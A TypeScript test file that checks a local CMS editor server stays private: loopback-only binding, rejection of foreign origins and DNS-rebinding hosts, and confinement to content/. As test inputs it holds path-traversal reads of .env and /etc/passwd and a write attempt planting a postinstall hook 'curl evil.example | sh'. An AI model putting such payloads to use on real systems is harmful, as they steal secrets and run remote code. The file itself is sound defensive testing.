// `npm run cms` is private to this computer: its server (the editor's page and Decap's local backend) listens on
// 127.0.0.1 alone, answers the backend only to the editor's own page, and reaches only content/. Run as an operator
// would, on a copy of content/, and probed from this machine's other network address, from a foreign page, under a
// foreign name (a web site pointing its own name at 127.0.0.1) and for files outside content/.
import { execFileSync } from 'node:child_process'
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { request } from 'node:http'
import { createServer, connect } from 'node:net'
import { networkInterfaces, tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type RunningProcess, startProcess } from '../../local-stack/child-process.ts'

const port = Number(process.env.E2E_PORT ?? 4173) + 60
const own = `http://localhost:${port}`
let folder: string
let editor: RunningProcess

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'private-editor-'))
  cpSync('content', join(folder, 'content'), { recursive: true })
  writeFileSync(join(folder, '.env'), 'DATABASE_URL=postgres://owner:secret@db/site\n')
  writeFileSync(join(folder, 'package.json'), '{"scripts":{}}\n')
  editor = await startProcess(process.execPath, ['--import', 'tsx', 'editor/serve.ts'], {
    env: { ...process.env, CMS_PORT: String(port), CMS_REPO_DIR: folder, LOG_LEVEL: 'error' },
    ready: 'Web editor:',
    timeoutMs: 180_000,
  })
}, 200_000)

afterAll(async () => {
  await editor?.stop()
  rmSync(folder, { recursive: true, force: true })
})

/** Whether a TCP connection to `host`:`port` is accepted. */
const accepts = (host: string, at: number) =>
  new Promise<boolean>((resolve) => {
    const socket = connect({ host, port: at })
    socket.once('connect', () => resolve(socket.destroy() && true))
    socket.once('error', () => resolve(false))
  })

/** This machine's address on a network (not loopback): one it has, else one added to it for the test (as root). */
function networkAddress(): { address?: string; remove?: () => void; reason?: string } {
  const address = Object.values(networkInterfaces())
    .flat()
    .find((face) => face && face.family === 'IPv4' && !face.internal)?.address
  if (address) return { address }
  const added = '192.0.2.77'
  try {
    execFileSync('ip', ['addr', 'add', `${added}/32`, 'dev', 'lo'], { stdio: 'pipe' })
    return { address: added, remove: () => execFileSync('ip', ['addr', 'del', `${added}/32`, 'dev', 'lo']) }
  } catch (error) {
    return { reason: `no network address, and none can be added (${(error as Error).message.split('\n')[0]})` }
  }
}

/** The status of a request to the editor under another name (fetch cannot set Host). */
const statusUnder = (host: string, path: string, origin?: string) =>
  new Promise<number>((resolve, reject) => {
    const headers = { Host: host, 'Content-Type': 'application/json', ...(origin ? { Origin: origin } : {}) }
    const sent = request({ host: '127.0.0.1', port, path, method: origin ? 'POST' : 'GET', headers }, (response) => {
      response.resume()
      resolve(response.statusCode ?? 0)
    })
    sent.once('error', reject)
    sent.end(origin ? '{"action":"info","params":{}}' : undefined)
  })

/** A request to the backend as a page at `origin` sends it. */
const backend = (body: object, origin = own) =>
  fetch(`${own}/api/v1`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', Origin: origin },
    body: JSON.stringify(body),
  })

describe('npm run cms', () => {
  it('cannot be reached from the network: only from this computer', async (context) => {
    const { address, remove, reason } = networkAddress()
    if (!address) return context.skip(reason)
    try {
      // The address is reachable: a server listening on every interface answers there.
      const everywhere = createServer((socket) => socket.end())
      await new Promise<void>((listening) => everywhere.listen(port + 1, '0.0.0.0', listening))
      expect(await accepts(address, port + 1)).toBe(true)
      everywhere.close()
      expect(await accepts(address, port)).toBe(false)
      expect(await accepts('127.0.0.1', port)).toBe(true)
    } finally {
      remove?.()
    }
  })

  it("answers the backend for the editor's own page and refuses any other page", async () => {
    const info = { action: 'info', params: {} }
    expect((await backend(info)).status).toBe(200)
    expect((await backend(info, `http://127.0.0.1:${port}`)).status).toBe(200)
    const foreign = await backend(info, 'https://evil.example')
    expect(foreign.status).toBe(403)
    expect(await foreign.json()).toEqual({ error: "The editor's files answer only the editor's own page." })
    expect((await backend(info, 'null')).status).toBe(403)
    // A web site whose own name points at 127.0.0.1: the browser sends that name, and the site's origin.
    expect(await statusUnder(`evil.example:${port}`, '/api/v1', `http://evil.example:${port}`)).toBe(403)
    expect(await statusUnder(`evil.example:${port}`, '/admin/')).toBe(403)
    expect(await statusUnder(`localhost:${port}`, '/admin/')).toBe(200)
  })

  it('reaches only content/: files elsewhere are neither read nor written', async () => {
    const stats = await backend({ action: 'getEntry', params: { path: 'content/stats.yaml', branch: 'main' } })
    expect(((await stats.json()) as { data: string }).data).toBe(
      readFileSync(join(folder, 'content/stats.yaml'), 'utf8'),
    )
    for (const path of ['.env', 'package.json', 'content/../.env', '/etc/passwd', '.git/hooks/pre-commit', '.']) {
      const read = await backend({ action: 'getEntry', params: { path, branch: 'main' } })
      expect(read.status, path).toBe(403)
      expect(JSON.stringify(await read.json()), path).not.toContain('secret')
    }
    const write = await backend({
      action: 'persistEntry',
      params: {
        branch: 'main',
        entry: { slug: 'x', path: 'package.json', raw: '{"scripts":{"postinstall":"curl evil.example | sh"}}' },
        assets: [],
        options: { commitMessage: 'x' },
      },
    })
    expect(write.status).toBe(403)
    expect(readFileSync(join(folder, 'package.json'), 'utf8')).toBe('{"scripts":{}}\n')
    const listing = await backend({ action: 'entriesByFolder', params: { folder: '.', extension: 'env', depth: 1 } })
    expect(listing.status).toBe(403)
  })
})
